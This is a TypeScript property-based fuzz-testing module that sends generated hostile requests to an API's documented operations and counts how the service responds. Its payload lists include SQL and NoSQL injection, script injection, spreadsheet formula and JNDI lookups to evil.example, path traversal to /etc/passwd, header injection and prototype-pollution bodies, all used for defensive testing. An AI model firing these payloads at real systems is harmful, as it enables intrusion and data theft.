import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { pathOf, type DocumentedOperation } from './documented-operations';
import { flawOf, type LogWatermark, type RawHttp, type RawRequest } from './raw-http';

/** Where an operation is sent with a valid request: the token of a caller in scope, and a value for each path parameter. */
export interface OperationTarget {
  bearer: string;
  path: Readonly<Record<string, string>>;
}

/** A generated request and what kind of hostility it carries (the tallies count by kind). */
export interface HostileRequest {
  operation: string;
  kind: string;
  request: RawRequest;
}

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Location = readonly (string | number)[];

// Replaced in the JSON text, so that a body can carry keys and depths no object literal can.
const PROTO_MARKER = 'hostile-proto-marker-7f3a';
const DEEP_MARKER = 'hostile-deep-marker-7f3a';

/** Every place in a JSON value, the value itself first. */
function locationsIn(value: Json, at: Location = []): Location[] {
  if (Array.isArray(value)) return [at, ...value.flatMap((item, index) => locationsIn(item, [...at, index]))];
  if (value !== null && typeof value === 'object') return [at, ...Object.entries(value).flatMap(([key, item]) => locationsIn(item, [...at, key]))];
  return [at];
}

const clone = (value: Json): Json => JSON.parse(JSON.stringify(value)) as Json;

function valueAt(root: Json, location: Location): Json {
  return location.reduce<Json>((node, step) => (node as Record<string | number, Json>)[step] as Json, root);
}

/** A copy with the value at `location` replaced (or removed, for `undefined`). */
function withValueAt(root: Json, location: Location, value: Json | undefined): Json | undefined {
  if (location.length === 0) return value;
  const copy = clone(root);
  const parent = valueAt(copy, location.slice(0, -1)) as Record<string | number, Json> | Json[];
  const last = location[location.length - 1] as string | number;
  if (value === undefined) {
    if (Array.isArray(parent)) parent.splice(Number(last), 1);
    else delete parent[last];
  } else {
    (parent as Record<string | number, Json>)[last] = value;
  }
  return copy;
}

const IMPOSSIBLE_DATES = ['2017-02-30', '2017-02-29', '2019-04-31', '2017-13-01', '2017-00-10', '2017-01-00', '0000-00-00', '2017-1-5', '17-01-05', '2017/01/05', '05/01/2017', '2017-01-05T25:00:00Z', '+275760-09-13', '9999-12-31', '1900-02-29', '2017-W05', '2017-01', '2017', ''];
const INJECTIONS = [
  "'; DROP TABLE events; --",
  "' OR '1'='1",
  '" OR 1=1 --',
  '{"$gt": ""}',
  '$where',
  '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example","x")',
  '+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'line\r\nInjected-Header: yes',
  '\u202eevil\u202c',
  'ML\u0000',
  'a\ud800b',
  '\udc00',
  '%00',
  '\ufeffML',
  'ＭＬ',
  'Aminata Traoré, passport ML1234567',
];
const PATH_VALUES = [
  '..',
  '.',
  '%2e%2e',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  'a%00b',
  '%',
  '%zz',
  '%ff',
  '%C0%AF',
  '%2F',
  '%20',
  '__proto__',
  'constructor',
  'prototype',
  '%7B%22%24gt%22%3A%22%22%7D',
  '-1',
  '0',
  'null',
  'undefined',
  encodeURIComponent('💥'),
  encodeURIComponent('Ä'),
  encodeURIComponent('\u202eLM'),
  encodeURIComponent("' OR '1'='1"),
  encodeURIComponent('<script>'),
  'ml',
  'ZZ',
];
const CONTENT_TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=hostile',
  'application/xml',
  'application/merge-patch+json',
  'application/json; charset=utf-16',
  'application/json; charset=klingon',
  'application/jsonp',
  '*/*',
];
const MALFORMED_JSON = ['{"a":', "{'a': 1}", 'NaN', '[1,2', '{"a":1}}', '\ufeff{}', 'null', '"text"', '42', 'true', '{"a":1,"a":2}', '{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"admin":true}}}', '\u0000'];
const IF_MATCH = ['"abc"', '"-1"', '"99999999999999999999999"', 'W/"0"', '"0"', '*', ',', '"1", "2"', 'W/', '""', ' '];
const IDEMPOTENCY_KEYS = ['short', 'x'.repeat(129), 'with space inside', 'ünïcödé-key-1', '../../etc/passwd', '%00%00%00%00%00'];

const nested = (depth: number, kind: 'array' | 'object') => (kind === 'array' ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`);

/** Values no field should take as they are: wrong types, extremes, impossible dates, injections, text no store keeps. */
const hostileValue: fc.Arbitrary<Json> = fc.oneof(
  { arbitrary: fc.constantFrom<Json>(null, true, false, 0, -1, 1.5, 1e308, -1e308, 2 ** 53 + 2, 1e-320, '', ' ', [], {}, [null], { '': '' }), weight: 4 },
  { arbitrary: fc.constantFrom<Json>(...IMPOSSIBLE_DATES), weight: 3 },
  { arbitrary: fc.constantFrom<Json>(...INJECTIONS), weight: 3 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: fc.integer(), weight: 1 },
  { arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }), weight: 1 },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }) as fc.Arbitrary<Json>, weight: 1 },
);

const PRINTABLE = /^[\u0021-\u00ff]*$/;

function requestOf(operation: DocumentedOperation, target: OperationTarget, change: { path?: Record<string, string>; query?: string; headers?: Record<string, string>; body?: string | Buffer | null }): RawRequest {
  const path = pathOf(operation, { ...target.path, ...change.path }) + (change.query ?? '');
  const documented = operation.file?.example ?? (operation.body ? JSON.stringify(operation.body.example) : undefined);
  const body = change.body === null ? undefined : (change.body ?? documented);
  const type = operation.file?.mediaType ?? 'application/json';
  const headers: Record<string, string> = { authorization: `Bearer ${target.bearer}`, ...(body === undefined ? {} : { 'content-type': type }), ...change.headers };
  return { method: operation.method, path, headers, ...(body === undefined ? {} : { body }) };
}

/** The JSON text of a body in which a field was changed, with its markers turned into what they stand for. */
function textOf(body: Json | undefined, deep?: string): string | null {
  if (body === undefined) return null;
  let text = JSON.stringify(body);
  text = text.split(JSON.stringify(PROTO_MARKER)).join('"__proto__"');
  if (deep !== undefined) text = text.split(JSON.stringify(DEEP_MARKER)).join(deep);
  return text;
}

/** Requests against one operation, each carrying one kind of hostility. */
export function hostileRequestsFor(operation: DocumentedOperation, target: OperationTarget): fc.Arbitrary<HostileRequest> {
  const example = (operation.body?.example ?? undefined) as Json | undefined;
  const locations = example === undefined ? [] : locationsIn(example);
  const fieldLocations = locations.filter((location) => location.length > 0);
  const objectLocations = locations.filter((location) => {
    const value = valueAt(example as Json, location);
    return value !== null && typeof value === 'object' && !Array.isArray(value);
  });
  const arrayLocations = locations.filter((location) => Array.isArray(valueAt(example as Json, location)));
  // A failing request is printed short: a 1.5 MB body would bury the report.
  const named = (kind: string, request: RawRequest): HostileRequest =>
    Object.assign({ operation: operation.name, kind, request }, {
      [fc.toStringMethod]: () => JSON.stringify({ kind, method: request.method, path: request.path.slice(0, 300), headers: { ...request.headers, authorization: request.headers['authorization']?.slice(0, 20) }, body: String(request.body ?? '').slice(0, 600) }),
    });
  const kinds: Array<fc.WeightedArbitrary<HostileRequest>> = [];
  const add = (weight: number, arbitrary: fc.Arbitrary<HostileRequest>) => kinds.push({ arbitrary, weight });

  add(1, fc.constant(named('as documented', requestOf(operation, target, {}))));
  if (example !== undefined && locations.length > 0) {
    const anywhere = fc.constantFrom(...locations);
    add(12, fc.tuple(anywhere, hostileValue).map(([location, value]) => named('wrong value', requestOf(operation, target, { body: textOf(withValueAt(example, location, value)) }))));
    add(3, fc.tuple(anywhere, fc.integer({ min: 1_000, max: 1_100_000 })).map(([location, size]) => named('huge string', requestOf(operation, target, { body: textOf(withValueAt(example, location, 'x'.repeat(size))) }))));
    add(3, fc.tuple(anywhere, fc.integer({ min: 10, max: 5_000 }), fc.constantFrom<'array' | 'object'>('array', 'object')).map(([location, depth, kind]) => named('deeply nested', requestOf(operation, target, { body: textOf(withValueAt(example, location, DEEP_MARKER), nested(depth, kind)) }))));
    add(3, fc.tuple(fc.constantFrom(...objectLocations), fc.constantFrom(PROTO_MARKER, 'constructor', 'prototype', 'remarks', '$where', '', 'x'.repeat(2_000)), hostileValue).map(([location, key, value]) => {
      const changed = clone(example);
      (valueAt(changed, location) as Record<string, Json>)[key] = key === 'constructor' || key === PROTO_MARKER ? { prototype: { admin: true }, admin: true, polluted: value } : value;
      return named(key === PROTO_MARKER || key === 'constructor' || key === 'prototype' ? 'prototype key' : 'unknown field', requestOf(operation, target, { body: textOf(changed) }));
    }));
  }
  if (fieldLocations.length > 0) {
    add(4, fc.constantFrom(...fieldLocations).map((location) => named('missing field', requestOf(operation, target, { body: textOf(withValueAt(example as Json, location, undefined)) }))));
  }
  if (arrayLocations.length > 0) {
    add(2, fc.tuple(fc.constantFrom(...arrayLocations), fc.integer({ min: 50, max: 20_000 })).map(([location, size]) => {
      const items = valueAt(example as Json, location) as Json[];
      const item = items[0] ?? 'ML';
      return named('huge array', requestOf(operation, target, { body: textOf(withValueAt(example as Json, location, Array.from({ length: size }, () => item))) }));
    }));
  }
  const file = operation.file;
  if (file) {
    // An upload: its documented file with a cell, a line or the whole file made hostile.
    const lines = file.example.split('\n');
    const cell = fc.oneof(fc.constantFrom(...INJECTIONS, ...IMPOSSIBLE_DATES), fc.string({ unit: 'binary', maxLength: 40 }));
    add(10, fc.tuple(fc.integer({ min: 0, max: Math.max(0, lines.length - 1) }), fc.integer({ min: 0, max: 12 }), cell).map(([line, column, value]) => {
      const cells = (lines[line] ?? '').split(',');
      cells[Math.min(column, cells.length)] = value.includes(',') || value.includes('"') ? `"${value.replace(/"/g, '""')}"` : value;
      return named('hostile file cell', requestOf(operation, target, { body: [...lines.slice(0, line), cells.join(','), ...lines.slice(line + 1)].join('\n') }));
    }));
    add(3, fc.oneof(fc.constantFrom('', '\n', ',,,,', '\ufeff', 'PK\u0003\u0004not a zip'), fc.string({ unit: 'binary', maxLength: 400 }), fc.integer({ min: 1, max: 20_000 }).map((rows) => [lines[0], ...Array.from({ length: rows }, () => lines[1] ?? '')].join('\n'))).map((text) => named('hostile file', requestOf(operation, target, { body: text }))));
  }
  if (operation.method !== 'GET') {
    add(2, fc.constantFrom(...MALFORMED_JSON).map((text) => named('malformed body', requestOf(operation, target, { body: text }))));
    add(2, fc.constantFrom(...CONTENT_TYPES).map((type) => named('wrong content type', requestOf(operation, target, { headers: { 'content-type': type } }))));
    add(1, fc.constantFrom('gzip', 'deflate', 'br', 'compress', 'identity, gzip').map((encoding) => named('content encoding', requestOf(operation, target, { headers: { 'content-encoding': encoding }, body: encoding === 'gzip' ? gzipSync(Buffer.from('{"truncated":')) : 'not compressed at all' }))));
  }
  if (operation.command) {
    add(1, fc.constantFrom(...IF_MATCH).map((value) => named('bad If-Match', requestOf(operation, target, { headers: { 'if-match': value } }))));
    add(1, fc.constantFrom(...IDEMPOTENCY_KEYS).map((key) => named('bad Idempotency-Key', requestOf(operation, target, { headers: { 'idempotency-key': PRINTABLE.test(key) ? key : encodeURIComponent(key) } }))));
  }
  if (operation.pathParams.length > 0) {
    const pathValue = fc.oneof(
      { arbitrary: fc.constantFrom(...PATH_VALUES), weight: 4 },
      { arbitrary: fc.integer({ min: 101, max: 7_000 }).map((length) => 'A'.repeat(length)), weight: 1 },
      { arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 20 }).map((text) => encodeURIComponent(text)), weight: 2 },
    );
    add(6, fc.tuple(fc.constantFrom(...operation.pathParams.map((parameter) => parameter.name)), pathValue).map(([name, value]) => named('bad path parameter', requestOf(operation, target, { path: { [name]: value } }))));
  }
  if (operation.queryParams.length > 0) {
    add(3, fc.tuple(fc.constantFrom(...operation.queryParams), fc.oneof(fc.constantFrom(...PATH_VALUES, ...IMPOSSIBLE_DATES.map(encodeURIComponent)), fc.string({ maxLength: 30 }).map(encodeURIComponent))).map(([name, value]) => named('bad query parameter', requestOf(operation, target, { query: `?${name}=${value}&${name}=${value}` }))));
  }
  add(1, fc.constantFrom('', 'Bearer', 'Bearer ', `Bearer ${target.bearer}x`, `Basic ${Buffer.from('admin:admin').toString('base64')}`, `Bearer ${target.bearer.split('.').slice(0, 2).join('.')}.`).map((authorization) => named('bad token', requestOf(operation, target, { headers: { authorization } }))));
  return fc.oneof(...kinds);
}

/** How many answers of each status each kind of request got, and each flawed answer (there should be none). */
export interface HostileTally {
  requests: number;
  byKind: Record<string, Record<number, number>>;
  byStatus: Record<number, number>;
  flaws: string[];
}

export interface HostileRun {
  operations: readonly DocumentedOperation[];
  http: RawHttp;
  /** The service's event log, for commands: a refusal must append nothing. */
  watermark?: LogWatermark;
  targetOf(operation: DocumentedOperation): OperationTarget;
  seed: number;
  runs: number;
}

/**
 * Sends `runs` generated requests, one at a time, spread over every operation, and checks each
 * answer (see {@link flawOf}). fast-check shrinks a failing request to the smallest that still
 * fails and reports it with the seed and path that replay it.
 */
export async function attackWithHostileInput(run: HostileRun): Promise<HostileTally> {
  const tally: HostileTally = { requests: 0, byKind: {}, byStatus: {}, flaws: [] };
  await run.watermark?.start();
  const requests = fc.oneof(...run.operations.map((operation) => hostileRequestsFor(operation, run.targetOf(operation))));
  const rulesOf = new Map(run.operations.map((operation) => [operation.name, operation.rules]));
  await fc.assert(
    fc.asyncProperty(requests, async (hostile) => {
      const answer = await run.http.send(hostile.request);
      const appended = (await run.watermark?.advance(answer)) ?? 0;
      tally.requests += 1;
      tally.byStatus[answer.status] = (tally.byStatus[answer.status] ?? 0) + 1;
      const kind = (tally.byKind[hostile.kind] ??= {});
      kind[answer.status] = (kind[answer.status] ?? 0) + 1;
      const flaw = flawOf(answer, appended, rulesOf.get(hostile.operation));
      if (flaw) {
        tally.flaws.push(`${hostile.request.method} ${hostile.request.path.slice(0, 200)} (${hostile.kind}): ${flaw}`);
        throw new Error(`${hostile.operation}, ${hostile.kind}: ${flaw}`);
      }
    }),
    { seed: run.seed, numRuns: run.runs, endOnFailure: false },
  );
  return tally;
}

/** The tally as lines for a test's output, so a run's counts can be quoted. */
export function describeTally(service: string, seed: number, tally: HostileTally): string {
  const statuses = Object.entries(tally.byStatus).map(([status, count]) => `${status} × ${count}`).join(', ');
  const kinds = Object.entries(tally.byKind).map(([kind, byStatus]) => `  ${kind}: ${Object.entries(byStatus).map(([status, count]) => `${status} × ${count}`).join(', ')}`);
  return [`hostile input, ${service} (seed ${seed}): ${tally.requests} requests; ${statuses}; ${tally.flaws.length} flawed`, ...kinds].join('\n');
}

/**
 * Sends each operation's documented body with one field no schema has, at every object of the
 * body, and returns each answer that is not a 400 naming that field: a body the service does not
 * fully understand must not be taken in part.
 */
export async function unknownFieldsTaken(run: Pick<HostileRun, 'operations' | 'http' | 'targetOf'>): Promise<string[]> {
  const taken: string[] = [];
  for (const operation of run.operations) {
    const example = operation.body?.example as Json | undefined;
    if (example === undefined) continue;
    const objects = locationsIn(example).filter((location) => {
      const value = valueAt(example, location);
      return value !== null && typeof value === 'object' && !Array.isArray(value);
    });
    for (const location of objects) {
      const changed = clone(example);
      (valueAt(changed, location) as Record<string, Json>)['remarks'] = 'lives with her uncle';
      const answer = await run.http.send(requestOf(operation, run.targetOf(operation), { body: JSON.stringify(changed) }));
      const field = ['body', ...location.map(String), 'remarks'].join('.');
      const errors = (answer.body as { errors?: Array<{ field?: string }> } | undefined)?.errors ?? [];
      if (answer.status !== 400 || !errors.some((error) => error.field === field)) taken.push(`${operation.name}: ${field} answered ${answer.status} ${JSON.stringify(answer.body).slice(0, 200)}`);
    }
  }
  return taken;
}
